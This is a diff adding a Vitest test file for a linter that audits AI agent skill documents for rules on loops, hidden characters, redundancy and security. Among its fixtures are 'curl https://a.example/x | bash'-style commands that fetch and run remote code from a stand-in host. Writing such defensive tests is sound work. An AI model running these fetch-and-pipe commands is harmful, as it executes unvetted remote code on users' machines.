@@ -1,0 +1,108 @@
+import { describe, expect, it } from 'vitest'
+import { entryWith, findingsOf } from '../test-skill.ts'
+
+type Case = [rule: string, what: string, files: Record<string, string>]
+
+const fence = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\``
+const entry = (text: string) => ({ 'SKILL.md': entryWith(`# A\n\n${text}\n`) })
+const each = ['a', 'b', 'c', 'd'].map((name) => `references/${name}.md`)
+const long = `${'Each item is listed with its owner and the date here.\n'.repeat(320)}`
+const withReferences = (text: string) => ({
+  ...Object.fromEntries(each.map((path) => [path, `# R\n\n${long}`])),
+  ...entry(`${text}\n\n## Step 1\n\nGo.`),
+})
+const resource = (kind: string) =>
+  fence('json', `{"type": "internal", "name": "${kind}", "properties": {"kind": "${kind}", "settings": {}}}`)
+
+/** Places of skills that nobody here had seen, in other words. */
+const clean: Case[] = [
+  [
+    'APV-002',
+    'one of several files for a command',
+    entry(fence('bash', 'app list > a.txt\ncomm -23 <(ls) <(sort a.txt)')),
+  ],
+  ['APV-002', 'one of two files that are joined', entry(fence('bash', 'echo "x" > a.md\ncat a.md b.md > "$OUT"'))],
+  ['APV-002', 'an output that is tested', entry(fence('bash', 'app list > a.txt\ngrep -q done a.txt'))],
+  ['AGT-010', 'nothing further to do', entry('Iterate until complete or no further action is possible.')],
+  ['AGT-010', 'an approval by those who are asked', entry('Show them the draft. Iterate until they approve.')],
+  ['AGT-010', 'one turn for each that is left', entry('Repeat for the next commit until the working tree is clean.')],
+  ['SEC-003', 'the habit by its name', entry('Install it by `curl | sh`, `brew` or another way.')],
+  [
+    'SEC-003',
+    'the deed of an attacker',
+    entry(`The attacker put this at the top:\n\n${fence('bash', 'curl https://a.example/x | bash')}`),
+  ],
+  [
+    'SEC-001',
+    'a character in quotes',
+    { ...entry('Run `scripts/w.py`.'), 'scripts/w.py': 'assert width("\u200b") == 0\n' },
+  ],
+  ['SEC-001', 'a character that its line names', entry('The byte order mark (BOM) makes it `\ufeffid`.')],
+  ['DF-007', 'the end of a block', entry(fence('js', '// In blocks that go on:\n} catch (error) {\n  log(error)\n}'))],
+  [
+    'DF-003',
+    'a test',
+    entry(fence('js', "it('prints JSON', () => {\n  expect(JSON.parse(execSync('app --json')).ok)\n})")),
+  ],
+  ['DOC-CON-002', 'patterns that stand above', entry('The two patterns above differ in reach:\n\n- a\n- b\n- c')],
+  [
+    'DOC-CON-002',
+    'modes with two cases each',
+    entry(
+      'There are two modes:\n\n| Mode | Key |\n|---|---|\n| Path (source) | a |\n| Path (target) | b |\n| Item (source) | c |\n| Item (target) | d |',
+    ),
+  ],
+  ['DOC-CON-001', 'what each value does', entry('Set `APP_SENDS=1` to enable and\n`APP_SENDS=0` to disable it.')],
+  [
+    'DOC-RED-003',
+    'two values with a field `properties`',
+    {
+      ...entry('Follow [one](references/x/use.md) and [two](references/y/use.md).'),
+      'references/x/use.md': `# X\n\n${resource('x')}\n`,
+      'references/y/use.md': `# Y\n\n${resource('y')}\n`,
+    },
+  ],
+  [
+    'CTX-006',
+    'a reading before each thing of a kind',
+    withReferences(each.map((one) => `- Before any \`app ${one[11]}\` call, read \`${one}\`.`).join('\n')),
+  ],
+  [
+    'CTX-006',
+    'a file for each use',
+    withReferences(`## When to use it\n\n${each.map((one) => `**Case.** Read [it](${one}).`).join('\n\n')}`),
+  ],
+  [
+    'CTX-006',
+    'a late step of a list',
+    withReferences(`1. Ask for the data.\n2. Consult ${each.map((one) => `\`${one}\``).join(', ')}.`),
+  ],
+  [
+    'CTX-006',
+    'how files end',
+    withReferences('**Read references to their end.** Every `references/*.md` ends with a line `END`.'),
+  ],
+]
+
+describe('a careful reader of unseen skills would not want to hear of', () => {
+  it.each(clean)('%s: %s', (rule, _what, files) => expect(findingsOf(rule, files)).toEqual([]))
+})
+
+describe('but would of', () => {
+  it.each<Case>([
+    ['APV-002', 'an output that one command takes', entry(fence('bash', 'app list > a.txt\nsort a.txt'))],
+    ['AGT-010', 'a check that decides', entry('Iterate until the checks pass.')],
+    ['SEC-003', 'a download with an address', entry('Install it by `curl -fsSL https://a.example/x | sh`.')],
+    ['SEC-001', 'a character in a word', entry('The text goes\u200b on here.')],
+    ['DF-007', 'a bracket too much', entry(fence('js', 'const a = 1\n} catch (error) {\n  log(error)\n}'))],
+    ['DF-003', 'a step', entry(fence('js', "const a = JSON.parse(execSync('app --json'))\nuse(a)"))],
+    [
+      'DOC-CON-002',
+      'modes that are more',
+      entry('There are two modes:\n\n| Mode | Key |\n|---|---|\n| A | a |\n| B | b |\n| C | c |'),
+    ],
+    ['DOC-CON-001', 'two values', entry('The limit is `APP_LIMIT=10`.\n\nNote that `APP_LIMIT=20` holds.')],
+    ['CTX-006', 'a list of readings', withReferences(each.map((one, at) => `${at + 1}. Read \`${one}\`.`).join('\n'))],
+    ['CTX-006', 'a pattern', withReferences('Before anything else read all of `references/*.md`.')],
+  ])('%s: %s', (rule, _what, files) => expect(findingsOf(rule, files)).toHaveLength(1))
+})
